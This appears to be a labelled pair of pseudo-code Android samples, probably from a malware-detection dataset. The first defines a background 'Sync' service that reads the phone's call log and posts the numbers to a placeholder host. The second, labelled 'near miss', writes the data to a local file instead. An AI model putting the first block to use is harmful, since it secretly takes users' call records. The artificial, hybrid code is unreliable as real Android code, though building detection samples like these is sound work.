permissions("READ_CONTACTS", "READ_CALL_LOG", "INTERNET")

@service
class Sync(Service):
    def onStartCommand(self, intent, flags, number):
        rows = self.getContentResolver().query(CallLog_Calls.CONTENT_URI, None, None, None, None)
        out = StringBuilder()
        while rows.moveToNext():
            out.append(rows.getString(1)).append(",")
        self.send(out.toString())
        return 1
    def send(self, text: String):
        connection = URL("https://example.org/in").openConnection()
        connection.getOutputStream().write(text.getBytes())

# near miss: keeps the list in its own file
@service
class Sync(Service):
    def onStartCommand(self, intent, flags, number):
        rows = self.getContentResolver().query(CallLog_Calls.CONTENT_URI, None, None, None, None)
        out = StringBuilder()
        while rows.moveToNext():
            out.append(rows.getString(1)).append(",")
        self.send(out.toString())
        return 1
    def send(self, text: String):
        self.openFileOutput("https://example.org/in", 0).write(text.getBytes())
